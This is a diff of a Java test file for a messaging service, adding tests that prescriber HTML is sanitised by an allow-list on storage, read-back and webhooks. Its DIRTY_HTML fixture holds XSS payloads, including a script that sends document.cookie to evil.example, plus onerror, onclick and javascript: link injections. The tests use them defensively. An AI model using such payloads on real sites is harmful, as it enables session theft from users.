@@ -106,15 +106,63 @@ class PrescriberMessageTest {
         JsonPath created = asOperator().contentType(ContentType.JSON).body(body)
                 .post("/ops/v1/conversations/" + conversationId + "/prescriber-messages").then().statusCode(201).extract().jsonPath();
         assertEquals("html", created.getString("message.type"));
-        assertEquals("<p>Book <a href=\"https://book.example/x\">here</a></p>", created.getString("message.html"));
+        // The allow-list forces rel on every link (MessageHtml).
+        assertEquals("<p>Book <a href=\"https://book.example/x\" rel=\"nofollow noopener\">here</a></p>", created.getString("message.html"));
 
         JsonNode webhook = TopicReader.json(events(1).get(0)).get("webhook");
         assertEquals(List.of("event", "memberId", "prescriberName", "messagePreview", "messageHtml", "subject", "conversationId",
                 "timestamp"), fields(webhook));
         assertEquals(text, webhook.get("messagePreview").asText());
-        assertEquals("<p>Book <a href=\"https://book.example/x\">here</a></p>", webhook.get("messageHtml").asText());
+        assertEquals("<p>Book <a href=\"https://book.example/x\" rel=\"nofollow noopener\">here</a></p>",
+                webhook.get("messageHtml").asText());
         assertEquals("Your consultation", webhook.get("subject").asText());
         getConversation(partnerId, conversationId).then().body("conversation.lastMessagePreview", equalTo(text.substring(0, 80)));
+    }
+
+    /** What a prescriber's html may hold once in (issue #38), as its answer, its stored value, a read and messageHtml show it. */
+    static final String DIRTY_HTML = "<p style=\"color:red\" onclick=\"steal()\">Dear patient,<br>please <strong>book</strong> <em>now</em>:</p>\n"
+            + "<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
+            + "<img src=x onerror=\"alert(1)\"><iframe src=\"https://evil.example/frame\"></iframe>\n"
+            + "<ul><li><a href=\"https://book.example/x\" target=\"_blank\">Book here</a></li><li><a href=\"javascript:alert(1)\">Not a link</a></li>"
+            + "<li><a href=\"/relative\">Relative</a></li><li><a href=\"mailto:care@clinic.example\">Write to us</a></li></ul>\n"
+            + "<blockquote><b>B</b> <i>I</i> <u>U</u></blockquote><ol><li>one</li></ol>";
+    static final String CLEAN_HTML = "<p>Dear patient,<br />please <strong>book</strong> <em>now</em>:</p>\n\n\n"
+            + "<ul><li><a href=\"https://book.example/x\" rel=\"nofollow noopener\">Book here</a></li><li>Not a link</li>"
+            + "<li>Relative</li><li><a href=\"mailto:care&#64;clinic.example\" rel=\"nofollow noopener\">Write to us</a></li></ul>\n"
+            + "<blockquote><b>B</b> <i>I</i> <u>U</u></blockquote><ol><li>one</li></ol>";
+
+    @Test
+    void aPrescribersHtmlIsCleanedOnTheWayInNotRefused() {
+        String body = new io.vertx.core.json.JsonObject().put("html", DIRTY_HTML).put("text", "Dear patient, please book now.")
+                .put("subject", "Your consultation").encode();
+        JsonPath created = asOperator().contentType(ContentType.JSON).body(body)
+                .post("/ops/v1/conversations/" + conversationId + "/prescriber-messages").then().statusCode(201).extract().jsonPath();
+        assertEquals("html", created.getString("message.type"));
+        assertEquals(CLEAN_HTML, created.getString("message.html"));
+        assertEquals("Dear patient, please book now.", created.getString("message.text"));
+        assertEquals(List.of(CLEAN_HTML), ServiceDatabase.rows("SELECT html FROM messages WHERE id = ?",
+                UUID.fromString(created.getString("message.id"))).stream().map(row -> row.get("html")).toList());
+        asPartner(partnerId).get("/v1/messages/conversations/" + conversationId + "/messages").then().statusCode(200)
+                .body("messages[0].html", equalTo(CLEAN_HTML));
+        asOperator().get("/ops/v1/conversations/" + conversationId + "/messages").then().statusCode(200)
+                .body("messages[0].html", equalTo(CLEAN_HTML));
+        JsonNode webhook = TopicReader.json(events(1).get(0)).get("webhook");
+        assertEquals(CLEAN_HTML, webhook.get("messageHtml").asText());
+
+        // Nothing allowed is left: still posted, with empty html.
+        asOperator().contentType(ContentType.JSON).body("{\"html\":\"<script>alert(1)</script>\",\"text\":\"x\",\"subject\":\"s\"}")
+                .post("/ops/v1/conversations/" + conversationId + "/prescriber-messages").then().statusCode(201)
+                .body("message.type", equalTo("html")).body("message.html", equalTo(""));
+    }
+
+    @Test
+    void htmlStoredBeforeTheAllowListIsReadBackCleaned() {
+        UUID id = UUID.randomUUID();
+        ServiceDatabase.update("INSERT INTO messages (id, conversation_id, sender_id, sender_role, sender_name, type, text, html, created_at)"
+                + " VALUES (?, ?, ?, 'prescriber', 'Dr. Grace Hopper', 'html', 'Dear patient', ?, now())",
+                id, UUID.fromString(conversationId), prescriberId, DIRTY_HTML);
+        asPartner(partnerId).get("/v1/messages/conversations/" + conversationId + "/messages").then().statusCode(200)
+                .body("messages[0].id", equalTo(id.toString())).body("messages[0].html", equalTo(CLEAN_HTML));
     }
 
     @Test
